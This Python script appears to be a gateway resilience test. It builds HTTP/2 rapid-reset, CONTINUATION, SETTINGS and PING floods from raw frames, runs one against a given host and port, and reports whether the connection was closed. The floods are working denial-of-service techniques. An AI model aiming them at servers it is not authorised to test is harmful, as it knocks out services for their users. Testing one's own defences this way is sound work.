"""HTTP/2 floods against the gateway, with the `h2` library over a plain
socket (prior knowledge): `flood.py KIND HOST PORT` sends one kind of flood
and prints, as JSON, whether and how soon the gateway ended the connection
(GOAWAY or close) and how many frames it took.

KIND: rapid_reset (HEADERS then RST_STREAM, again and again), continuation
(one HEADERS followed by endless CONTINUATION frames), settings and ping
(endless SETTINGS / PING frames)."""
import json
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events

LIMIT_SECONDS = 10


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def main(kind, host, port):
    sock = socket.create_connection((host, port), timeout=5)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    sock.setblocking(False)
    start = time.time()
    sent = 0
    ended = None
    stream = 1
    headers = [(":method", "GET"), (":path", "/flood"), (":scheme", "http"), (":authority", "t")]
    while time.time() - start < LIMIT_SECONDS and ended is None:
        try:
            if kind == "rapid_reset":
                conn.send_headers(stream, headers)
                conn.reset_stream(stream)
                stream += 2
                out = conn.data_to_send()
            elif kind == "continuation":
                if sent == 0:
                    out = frame(0x1, 0x0, 1, conn.encoder.encode(headers))
                else:
                    out = frame(0x9, 0x0, 1, b"\x40\x01a\x01b" * 50)
            elif kind == "settings":
                out = frame(0x4, 0x0, 0, b"")
            elif kind == "ping":
                out = frame(0x6, 0x0, 0, b"12345678")
            else:
                raise SystemExit(f"unknown flood {kind}")
            sock.sendall(out)
            sent += 1
        except (BlockingIOError, InterruptedError):
            time.sleep(0.001)
        except (BrokenPipeError, ConnectionResetError, OSError):
            ended = "closed"
            break
        try:
            data = sock.recv(65536)
            if not data:
                ended = "closed"
                break
            if b"\x07\x00\x00\x00\x00\x00" in data[:4096] or data[3:4] == b"\x07":
                ended = "goaway"
            try:
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.ConnectionTerminated):
                        ended = "goaway"
            except Exception:
                pass
        except (BlockingIOError, InterruptedError):
            pass
        except (ConnectionResetError, OSError):
            ended = "closed"
    print(json.dumps({"ended": ended, "seconds": round(time.time() - start, 2), "frames": sent}))


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]))
